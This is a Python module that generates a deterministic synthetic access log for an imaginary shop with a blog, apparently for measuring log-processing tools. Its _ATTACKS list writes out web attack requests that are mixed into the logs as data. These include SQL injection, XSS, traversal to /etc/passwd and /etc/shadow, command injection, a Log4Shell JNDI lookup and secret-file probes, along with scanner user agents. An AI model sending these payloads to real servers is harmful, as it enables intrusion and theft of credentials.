"""An access log to measure with: deterministic, of any size, like that of a shop with a blog."""

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np

START = datetime(2026, 2, 22, tzinfo=UTC)
_LINES_AT_ONCE = 100_000
_MEAN_LINE_BYTES = 240
_WORDS = [
    "about", "account", "archive", "article", "autumn", "bags", "blog", "boots", "brand", "cart",
    "category", "checkout", "coats", "contact", "cotton", "delivery", "denim", "events", "faq",
    "favourites", "garden", "gifts", "guide", "hats", "help", "home", "jackets", "jobs", "journal",
    "kids", "linen", "lookbook", "makers", "men", "news", "notes", "offers", "orders", "outlet",
    "press", "privacy", "product", "returns", "reviews", "sale", "search", "season", "select",
    "shipping", "shirts", "shoes", "sizes", "spring", "stores", "stories", "summer", "team",
    "terms", "trousers", "union-square", "update", "winter", "women", "wool", "workshop",
]  # fmt: skip
_ASSETS = ["/static/app.%x.js", "/static/style.%x.css", "/img/p/%d-m.jpg", "/img/p/%d-s.webp"]
_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{w}.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS {w}_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{w}.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S92{x}B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
]
_ROBOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Feedly/1.0 (+https://feedly.com/fetcher.html; 12 subscribers)", "kube-probe/1.31", "curl/8.11.0", "-",
]  # fmt: skip
_ATTACKS = [
    "/product?id={n}%27%20OR%20%271%27=%27{n}", "/search?q={n}+UNION+ALL+SELECT+NULL,{n},NULL--+-",
    "/item?id={n}%20AND%20(SELECT%20{n}%20FROM%20(SELECT(SLEEP(5)))x)", "/a?x=%3Cscript%3Ealert({n})%3C/script%3E",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert({n})%3E", "/download?file=../../../../etc/passwd&r={n}",
    "/get?f=..%252f..%252f..%252fetc%252fshadow%00{n}", "/x?c=;cat%20/etc/passwd;{n}", "/.env?{n}",
    "/?x=${{jndi:ldap://198.51.100.9/{n}}}", "/.git/config", "/wp-login.php?{n}", "/old/{n}.bak", "/{n}.php",
    "/cgi-bin/.%2e/.%2e/bin/sh?{n}", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
]  # fmt: skip
_TOOLS = ["sqlmap/1.8#stable (https://sqlmap.org)", "Mozilla/5.0 zgrab/0.x", "python-requests/2.32"]


def access_log(
    directory: Path, size: int, *, ips: int = 50_000, attacks: float = 0.01, seed: int = 1
) -> Path:
    """A log of about *size* bytes over one day in *directory*; made once."""
    path = directory / f"access-{size}-{ips}-{attacks}-{seed}.log"
    if not path.exists():
        partial = path.with_suffix(".partial")
        count = size // _MEAN_LINE_BYTES
        with partial.open("wb") as file:
            for lines in _Site(ips, attacks, seed).lines(count):
                file.write(("\n".join(lines) + "\n").encode())
        partial.rename(path)
    return path


class _Site:
    """Pages, visitors and attackers, and how often they meet."""

    def __init__(self, ips: int, attacks: float, seed: int) -> None:
        self._python = random.Random(seed)
        self._numpy = np.random.default_rng(seed)
        self._attacks = attacks
        self._ips = [self._address() for _ in range(ips)]
        self._attackers = [self._address() for _ in range(max(10, ips // 150))]
        self._targets = [self._target() for _ in range(30_000)]
        self._agents = [
            self._python.choice(_BROWSERS).format(v=v, w=v % 9 + 11, x=v % 10)
            for v in range(100, 145)
            for _ in range(4)
        ] + _ROBOTS
        pages = [f"https://shop.example{t}" for t in self._python.sample(self._targets, 500)]
        self._referrers = ["-"] * 300 + ["https://www.google.com/"] * 60 + pages

    def lines(self, count: int) -> Iterator[list[str]]:
        """All lines in order of time, many at once."""
        for first in range(0, count, _LINES_AT_ONCE):
            yield self._some_lines(first, min(_LINES_AT_ONCE, count - first), count)

    def _some_lines(self, first: int, some: int, count: int) -> list[str]:
        draw, pick = self._numpy, self._python.choice
        ips = draw.zipf(1.25, some) % len(self._ips)
        targets = (draw.zipf(1.3, some) + draw.integers(0, 200, some)) % len(self._targets)
        statuses = draw.choice(
            [200, 304, 301, 302, 404, 403, 500],
            some,
            p=[0.77, 0.09, 0.04, 0.04, 0.045, 0.01, 0.005],
        )
        sizes = draw.lognormal(8.5, 1.6, some).astype(int)
        is_attack, is_unique = draw.random(some) < self._attacks, draw.random(some) < 0.2
        methods = draw.choice(["GET", "POST", "HEAD"], some, p=[0.94, 0.045, 0.015])
        referrers, agents = (
            draw.integers(0, len(self._referrers), some),
            draw.integers(0, len(self._agents), some),
        )
        odd = draw.integers(0, 2000, some)
        lines = []
        for row in range(some):
            time = _time_of(86_400 * (first + row) // count)
            if is_attack[row]:
                number = int(odd[row]) * 7919 + row
                target = pick(_ATTACKS).format(n=number)
                ip, agent = (
                    pick(self._attackers),
                    pick(_TOOLS) if odd[row] % 4 == 0 else self._agents[agents[row]],
                )
                lines.append(
                    f'{ip} - - [{time}] "GET {target} HTTP/1.1" {pick((200, 403, 404))} 532 "-" "{agent}"'
                )
            elif odd[row] == 0:
                lines.append(
                    f'{self._ips[ips[row]]} - - [{time}] "\\x16\\x03\\x01\\x02" 400 157 "-" "-"'
                )
            else:
                target = self._targets[targets[row]]
                if is_unique[row]:
                    target += f"{'&' if '?' in target else '?'}sid={sizes[row]:x}{row:x}{first:x}"
                lines.append(
                    f"{self._ips[ips[row]]} - {'-' if odd[row] > 10 else 'anna'} [{time}] "
                    f'"{methods[row]} {target} HTTP/{"1.1" if odd[row] % 3 else "2.0"}" {statuses[row]} {sizes[row]} '
                    f'"{self._referrers[referrers[row]]}" "{self._agents[(ips[row] + agents[row] % 3) % len(self._agents)]}"'
                )
        return lines

    def _address(self) -> str:
        number = self._python.getrandbits(32)
        if number % 20 == 0:
            return f"2001:db8:{number >> 16:x}:{number & 0xFFFF:x}::{number % 977 + 1:x}"
        return f"{number >> 24 or 1}.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}"

    def _target(self) -> str:
        pick, kind = self._python.choice, self._python.random()
        number = self._python.randrange(1, 1 << 20)
        if kind < 0.3:
            return pick(_ASSETS) % number
        path = "/" + "/".join(pick(_WORDS) for _ in range(self._python.randrange(1, 4)))
        path += pick(["", "/", f"/{number}", ".html", f"-{number:x}"])
        if kind < 0.5:
            return f"{path}?page={number % 90}&sort={pick(['price', 'name', 'new'])}"
        if kind < 0.58:
            return f"{path}?q={pick(_WORDS)}+{pick(_WORDS)}&lang=en"
        if kind < 0.64:
            return (
                f"{path}?utm_source=news&utm_medium=mail&utm_campaign={pick(_WORDS)}_{number % 50}"
            )
        if kind < 0.68:
            return (
                f"{path}?next=%2F{pick(_WORDS)}%2F{number % 100}&title=caf%C3%A9%20{pick(_WORDS)}"
            )
        return path


def _time_of(second: int) -> str:
    return (START + timedelta(seconds=second)).strftime("%d/%b/%Y:%H:%M:%S +0000")
